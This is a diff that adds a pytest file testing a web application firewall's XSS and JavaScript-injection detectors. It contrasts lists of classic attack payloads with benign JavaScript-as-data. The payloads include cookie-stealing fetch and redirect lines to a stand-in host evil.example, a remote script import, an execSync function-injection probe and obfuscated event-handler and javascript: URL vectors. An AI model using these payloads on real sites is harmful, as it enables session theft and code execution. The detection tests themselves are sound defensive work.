@@ -1,0 +1,118 @@
+"""The XSS / JavaScript-injection confirmers (waf/_xss.py): attack vectors of the classic lists (written
+here, in their shapes) stay confirmed; JavaScript and markup that is data, not injected code, does not."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from waf._xss import is_event_handler, is_js_function_injection, is_js_injection, is_script_url, parses, tokenize
+
+# Injections into a script: bare (an unquoted expression), after a quote breakout, through a template,
+# through `</script>`, an invoked function literal, constructor and bracket tricks.
+JS_ATTACKS = [
+    "alert(1)",
+    "alert`1`",
+    "prompt(document.domain)",
+    "';alert(String.fromCharCode(88,83,83))//",
+    '";alert(1)//',
+    "'-alert(1)-'",
+    '\\";alert(1);//',
+    "'});alert(1);//",
+    "1;fetch('//evil.example/'+document.cookie)",
+    "</script><script>alert(1)</script>",
+    "<svg/onload=alert(1)>",
+    "javascript:alert(1)",
+    "(function(){alert(1)})()",
+    "!function(){alert(1)}()",
+    "(() => alert(document.cookie))()",
+    "[].constructor.constructor('alert(1)')()",
+    "window['al'+'ert'](1)",
+    "top[/al/.source+/ert/.source](1)",
+    "self['alert'](1)",
+    "Function('alert(1)')()",
+    "${alert(1)}",
+    "`${alert(1)}`",
+    "\";document.location='//evil.example/?'+document.cookie;//",
+    "x';document.body.innerHTML=location.hash.slice(1)//",
+    "eval(atob('YWxlcnQoMSk='))",
+    "setTimeout('alert(1)')",
+    "import('//evil.example/x.js')",
+    "(document)['cookie']",
+    "x' + document.cookie + '",
+]
+
+# JavaScript as data: function sources logged by telemetry, helper sources posted by polyfill and
+# fingerprinting scripts, stack traces, prose naming a call, class and object methods.
+JS_DATA = [
+    'function(e){var t=[a,b].sort((function(){return e===c?-1:1})),n=t[0];'
+    'Array.from(document.querySelectorAll(".".concat(n))).forEach((function(e){e.classList.add(n)}))}',
+    'function(){try{f(document.querySelector("div[".concat(k,"]")))}catch(e){}}',
+    'function(e){if(e)if("window"===e)t(window);else try{t(document.querySelector(e))}catch(e){}else t(null)}',
+    "function(e){var n=new URL(window.location.href);n.searchParams.delete('g');h.push({pathname:n.pathname})}",
+    "function () { return this.slice(0); }",
+    "(e) => { document.title = e.target.value }",
+    "class Widget { render() { document.body.append(this.el) } }",
+    "TypeError: a is not a function\n    at eval (webpack:///./src/app.js:12:5)\n    at setTimeout (native)",
+    "Uncaught ReferenceError: alert is not defined",
+    "an alert was raised",
+    "please alert(me) now",
+    '{"code":"document.cookie"}',
+]
+
+
+@pytest.mark.parametrize("value", JS_ATTACKS)
+def test_injected_script_is_confirmed(value: str) -> None:
+    assert is_js_injection(value)
+
+
+@pytest.mark.parametrize("value", JS_DATA)
+def test_javascript_as_data_is_not(value: str) -> None:
+    assert not is_js_injection(value)
+
+
+def test_function_literals_run_only_when_invoked_or_left_open() -> None:
+    assert is_js_function_injection("function(){return require('child_process').execSync('id')}()")
+    assert is_js_function_injection("_$$ND_FUNC$$_function(){return 1}()")
+    assert is_js_function_injection("function() {")  # opens a body for the host code to close
+    assert is_js_function_injection("(() => { process.exit(1) })()")
+    assert not is_js_function_injection("function(){var r=[],j={};for(var i=0;i<this.length;i++){r.push(this[i])}return r}")
+    assert not is_js_function_injection("function (op)\n{\n  if (!op) throw 'op must be a function';\n  return true;\n}")
+
+
+def test_a_script_that_would_not_parse_runs_nothing() -> None:
+    assert not parses(tokenize("at eval (app.js:1:2)"))
+    assert parses(tokenize("return typeof x in y"))
+    assert parses(tokenize("a\nb"))  # automatic semicolon between lines
+
+
+def test_jsx_handlers_that_call_nothing_pass_and_others_stay_decisive() -> None:
+    for jsx in ("<a onClick={handleClick}>", "<a onClick={(e) => e.preventDefault()}>",
+                "<Button onClick={() => setOpen(!open)} disabled>", "<input onChange={this.onChange} />"):  # fmt: skip
+        assert not is_event_handler(jsx), jsx
+    for attack in ("<img src=x onerror=alert(1)>", "<img src=x onerror={alert(1)}>", "<b onmouseover={location=name}>",
+                   "\" autofocus onfocus=alert(1) x=\"", "<x onclick={[1].map(alert)}>", "<x onclick={new Image().src='//e'}>",
+                   "<a onClick={() => 1} onmouseover=alert(1)>", "<x onclick={alert`1`}>"):  # fmt: skip
+        assert is_event_handler(attack), attack
+
+
+def test_inert_javascript_urls_pass_and_code_after_the_scheme_does_not() -> None:
+    for inert in ('{"href":"javascript:void 0;","rel":"nofollow"}', "javascript:", "javascript:;",
+                  "<a href='javascript:void(0);'>menu</a>", "javascript:void(0)"):  # fmt: skip
+        assert not is_script_url(inert), inert
+    for attack in ("javascript:alert(1)", "javascript:void(0);alert(1)", "javascript:void 0,alert(1)",
+                   "ja\tvascript:prompt(1)", "vbscript:msgbox(1)", "<a href=\"javascript:fetch('//e')\">", "javascript:\t"):  # fmt: skip
+        assert is_script_url(attack), attack
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.text(max_size=300))
+def test_confirmers_never_raise(value: str) -> None:
+    for detector in (is_js_injection, is_js_function_injection, is_event_handler, is_script_url):
+        assert detector(value) in (True, False)
+
+
+def test_a_function_source_cut_short_by_a_form_separator_is_no_probe() -> None:
+    assert not is_js_function_injection("function (fld)\n{\n    var m = new Map();\n    return this.filter((x) => !m.has(x[fld]) ")
+    assert is_js_function_injection("function(){ ")
